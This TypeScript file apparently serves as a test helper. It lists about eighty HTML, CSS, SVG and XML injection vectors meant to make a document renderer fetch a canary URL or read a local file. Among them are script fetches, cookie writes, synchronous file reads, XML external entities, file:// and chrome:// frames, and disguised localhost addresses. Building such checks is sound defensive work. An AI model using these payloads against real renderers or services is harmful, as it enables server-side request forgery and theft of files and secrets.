/** Ways by which a document has made a renderer fetch or read something: name and HTML for a canary's URL and a file's. */
export function hostileVectors(http: string, file: string): [name: string, html: string][] {
  const svg = (inner: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">${inner}</svg>`;
  const dataPage = (inner: string): string => `data:text/html;base64,${Buffer.from(inner).toString('base64')}`;
  const dataSvg = (inner: string): string => `data:image/svg+xml;base64,${Buffer.from(svg(inner)).toString('base64')}`;
  const ws = http.replace('http', 'ws');
  return [
    ['img', `<img src="${http}/a">`],
    ['img of a file', `<img src="${file}">`],
    ['img srcset', `<img srcset="${http}/a 1x, ${http}/b 2x">`],
    ['picture', `<picture><source srcset="${http}/a"><img></picture>`],
    ['img lazily', `<img loading="eager" decoding="sync" src="//${http.slice(7)}/a">`],
    ['img of data SVG that reaches out', `<img src="${dataSvg(`<image href="${http}/a"/>`)}">`],
    ['script src', `<script src="${http}/a"></script>`],
    ['script module', `<script type="module">import "${http}/a"</script>`],
    ['script fetch', `<script>fetch("${http}/a");new Image().src="${http}/b";document.write(document.cookie)</script>`],
    ['script web socket', `<script>new WebSocket("${ws}/a");navigator.sendBeacon("${http}/b")</script>`],
    ['script event source', `<script>new EventSource("${http}/a")</script>`],
    [
      'script WebRTC',
      `<script>const c=new RTCPeerConnection({iceServers:[{urls:"stun:${http.slice(7)}"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
    ],
    [
      'script reading a file',
      `<script>x=new XMLHttpRequest;x.open("GET","${file}",false);x.send();document.write(x.responseText)</script>`,
    ],
    [
      'import map',
      `<script type="importmap">{"imports":{"x":"${http}/a"}}</script><script type="module">import "x"</script>`,
    ],
    [
      'speculation rules',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${http}/a"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${http}/b"],"eagerness":"immediate"}]}</script>`,
    ],
    ['onerror', `<img src="x" onerror="fetch('${http}/a')">`],
    ['svg onload', svg(`<g onload="fetch('${http}/a')"/>`)],
    ['link style sheet', `<link rel="stylesheet" href="${http}/a">`],
    ['link icon', `<link rel="icon" href="${http}/a"><link rel="shortcut icon" href="${http}/b">`],
    ['link manifest', `<link rel="manifest" href="${http}/a">`],
    ['link prefetch', `<link rel="prefetch" href="${http}/a">`],
    [
      'link preload',
      `<link rel="preload" as="image" href="${http}/a"><link rel="preload" as="fetch" href="${http}/b" crossorigin>`,
    ],
    ['link modulepreload', `<link rel="modulepreload" href="${http}/a">`],
    ['link preconnect', `<link rel="preconnect" href="${http}">`],
    ['link dns-prefetch', `<link rel="dns-prefetch" href="//canary.invalid"><link rel="dns-prefetch" href="${http}">`],
    ['link prerender and next', `<link rel="prerender" href="${http}/a"><link rel="next" href="${http}/b">`],
    ['link html import', `<link rel="import" href="${http}/a"><link rel="import" href="${file}">`],
    ['link dictionary', `<link rel="compression-dictionary" href="${http}/a">`],
    ['iframe', `<iframe src="${http}/a"></iframe>`],
    ['iframe of a file', `<iframe src="${file}" width="500" height="500"></iframe>`],
    [
      'iframe srcdoc',
      `<iframe srcdoc="&lt;img src='${http}/a'&gt;&lt;iframe src='${file}'&gt;&lt;/iframe&gt;"></iframe>`,
    ],
    ['iframe of data', `<iframe src="${dataPage(`<img src="${http}/a"><iframe src="${file}"></iframe>`)}"></iframe>`],
    ['iframe of javascript', `<iframe src="javascript:fetch('${http}/a')"></iframe>`],
    ['iframe of view-source', `<iframe src="view-source:${file}"></iframe>`],
    ['frameset', `<frameset><frame src="${http}/a"><frame src="${file}"></frameset>`],
    ['object', `<object data="${http}/a"></object>`],
    ['object of a file', `<object data="${file}" type="text/plain" width="500" height="500"></object>`],
    ['embed', `<embed src="${http}/a">`],
    ['embed of a file', `<embed src="${file}" type="text/plain" width="500" height="500">`],
    ['applet', `<applet code="${http}/a" archive="${http}/b"></applet>`],
    ['portal and fenced frame', `<portal src="${http}/a"></portal><fencedframe src="${http}/b"></fencedframe>`],
    ['video', `<video src="${http}/a" poster="${http}/b" autoplay></video>`],
    ['audio', `<audio src="${http}/a" autoplay preload="auto"></audio>`],
    ['source', `<video autoplay preload="auto"><source src="${http}/a"></video>`],
    ['track', `<video autoplay><track default kind="captions" src="${http}/a"></video>`],
    ['input of type image', `<input type="image" src="${http}/a">`],
    [
      'body background',
      `<body background="${http}/a"><table background="${http}/b"><tr><td background="${http}/c">x</table>`,
    ],
    ['css background', `<div style="background:url(${http}/a);height:9px">x</div>`],
    ['css background of a file', `<div style="background:url(${file});height:9px">x</div>`],
    ['css @import', `<style>@import "${http}/a"; @import url("${file}");</style>`],
    ['css @font-face', `<style>@font-face{font-family:f;src:url("${http}/a")}</style><p style="font-family:f">x</p>`],
    ['css cursor', `<p style="cursor:url(${http}/a),auto">x</p>`],
    ['css list-style', `<ul style="list-style:url(${http}/a)"><li>x</ul>`],
    ['css content', `<style>p::before{content:url(${http}/a)}</style><p>x</p>`],
    [
      'css border-image and mask',
      `<p style="border:9px solid;border-image:url(${http}/a) 3;mask:url(${http}/b);-webkit-mask-image:url(${http}/c)">x</p>`,
    ],
    [
      'css filter, clip-path and shape',
      `<p style="filter:url(${http}/a#f);clip-path:url(${http}/b#c);float:left;shape-outside:url(${http}/d)">x</p>`,
    ],
    [
      'css image-set',
      `<p style="background:image-set('${http}/a' 1x);background-image:-webkit-image-set(url(${http}/b) 1x)">x</p>`,
    ],
    [
      'css page-margin box',
      `<style>@page{margin:40mm;@top-left{content:url(${http}/a)}@bottom-right{background:url(${http}/b);content:"x"}}</style>x`,
    ],
    ['css variable', `<p style="--u:url(${http}/a);background:var(--u)">x</p>`],
    ['css print only', `<style>@media print{p{background:url(${http}/a)}}</style><p>x</p>`],
    [
      'svg image',
      svg(`<image href="${http}/a" width="9" height="9"/><image xlink:href="${http}/b" width="9" height="9"/>`),
    ],
    ['svg use', svg(`<use href="${http}/a#x"/><use xlink:href="${file}#x"/>`)],
    [
      'svg feImage',
      svg(`<filter id="f"><feImage href="${http}/a"/></filter><rect filter="url(#f)" width="99" height="99"/>`),
    ],
    [
      'svg foreignObject',
      svg(
        `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${file}"></iframe><img xmlns="http://www.w3.org/1999/xhtml" src="${http}/a"/></foreignObject>`,
      ),
    ],
    [
      'svg style sheet',
      svg(`<style>@import url(${http}/a);</style><rect fill="url(${http}/b#p)" width="9" height="9"/>`),
    ],
    ['svg script', svg(`<script href="${http}/a"/>`)],
    [
      'svg text path and pattern',
      svg(
        `<pattern id="p" href="${http}/a#p"/><rect fill="url(#p)" width="9" height="9"/><text><textPath href="${http}/b#t">x</textPath></text>`,
      ),
    ],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${http}/a">`],
    ['meta refresh to a file', `<meta http-equiv="refresh" content="0;url=${file}">`],
    [
      'meta link header',
      `<meta http-equiv="Link" content="<${http}/a>; rel=preload; as=image"><meta http-equiv="default-style" content="${http}/b">`,
    ],
    ['base', `<base href="${http}/"><img src="a"><link rel="stylesheet" href="b">`],
    [
      'base of a file',
      `<base href="${file.replace(/[^/]*$/, '')}"><iframe src="${file.replace(/^.*\//, '')}"></iframe>`,
    ],
    [
      'form submitted by script and by autofocus',
      `<form id="f" action="${http}/a"><input autofocus onfocus="f.submit()"></form><script>f.submit()</script>`,
    ],
    ['ping', `<a href="about:blank" ping="${http}/a" autofocus>x</a>`],
    ['html manifest', `</html><html manifest="${http}/a">`],
    ['XML style sheet', `<?xml-stylesheet href="${http}/a"?><!DOCTYPE x [<!ENTITY e SYSTEM "${file}">]>&e;`],
    [
      'entity in data SVG',
      `<img src="data:image/svg+xml,${encodeURIComponent(`<!DOCTYPE svg [<!ENTITY e SYSTEM "${file}">]>${svg('<text y="20">&e;</text>')}`)}">`,
    ],
    ['attribution and shared storage', `<img attributionsrc="${http}/a" src="${http}/b">`],
    ['math href', `<math href="${http}/a"><mglyph src="${http}/b"/></math>`],
    [
      'file with a host',
      `<iframe src="file://localhost${file.slice(7)}"></iframe><iframe src="FILE:${file.slice(5)}"></iframe>`,
    ],
    ['chrome pages', `<iframe src="chrome://version"></iframe><iframe src="chrome://net-export"></iframe>`],
    ['file system and blob', `<iframe src="filesystem:${http}/a"></iframe><iframe src="blob:${http}/a"></iframe>`],
    ['other protocols', `<img src="ftp://${http.slice(7)}/a"><iframe src="ftp://${http.slice(7)}/b"></iframe>`],
    [
      'other names of this machine',
      `<img src="${http.replace('127.0.0.1', 'localhost')}/a"><img src="${http.replace('127.0.0.1', '0.0.0.0')}/b"><img src="${http.replace('127.0.0.1', '2130706433')}/c"><img src="${http.replace('127.0.0.1', '[::ffff:127.0.0.1]')}/d">`,
    ],
  ];
}
